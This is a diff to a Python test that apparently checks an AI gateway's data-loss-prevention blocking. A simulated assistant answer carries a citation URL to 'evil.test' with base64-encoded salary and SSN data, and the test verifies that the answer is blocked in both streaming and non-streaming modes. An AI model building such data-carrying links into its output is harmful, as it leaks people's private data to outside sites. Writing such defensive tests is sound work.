@@ -86,23 +86,30 @@ async def test_an_exfiltrating_answer_is_blocked(tmp_path: Path, stream: bool) -
     assert event["decision"]["policy_ids"] == ["no-exfiltration-in-answers"]
 
 
-async def test_an_exfiltrating_citation_is_blocked(tmp_path: Path) -> None:
+@pytest.mark.parametrize("stream", [False, True])
+async def test_an_exfiltrating_citation_is_blocked(tmp_path: Path, stream: bool) -> None:
     """A citation's address is read since 2026-11-27 (before, only the text was): one that
     carries data to a site off the allow-list blocks the answer like a link in the text."""
     from tests.gateway.test_dlp_actions import ResponsesEvents
 
     url = "https://evil.test/c?d=QWxpY2UncyBzYWxhcnkgaXMgOTUwMDAgYW5kIGhlciBTU04gaXM="
+    citation = {"type": "url_citation", "url": url, "title": "source", "start_index": 0,
+                "end_index": 4}
     message = {"type": "message", "role": "assistant", "content": [
-        {"type": "output_text", "text": "Here is your summary.",
-         "annotations": [{"type": "url_citation", "url": url, "title": "source",
-                          "start_index": 0, "end_index": 4}]}]}
-    upstream = ResponsesEvents({"id": "r", "object": "response", "output": [message]})
+        {"type": "output_text", "text": "Here is your summary.", "annotations": [citation]}]}
+    upstream = ResponsesEvents({"id": "r", "object": "response", "output": [message]}, [
+        {"type": "response.output_text.delta", "delta": "Here is your summary."},
+        {"type": "response.output_text.annotation.added", "annotation": citation},
+        {"type": "response.completed", "response": {"output": [message]}}])
     async with harness(tmp_path, _options(upstream)) as h:  # type: ignore[arg-type]
-        response = await h.client.post("/v1/responses", headers=auth(h.keys["alice"]),
-                                       json={"model": "demo-chat", "input": "summarise"})
+        response = await h.client.post("/v1/responses", headers=auth(h.keys["alice"]), json={
+            "model": "demo-chat", "input": "summarise", "stream": stream})
         event = h.last_event()
-    assert response.status_code == 403
     assert "evil.test" not in response.text
+    if stream:
+        assert streamed_text(response.content)[1][0]["code"] == "dlp_blocked"
+    else:
+        assert response.status_code == 403
     assert event["decision"]["policy_ids"] == ["no-exfiltration-in-answers"]
 
 
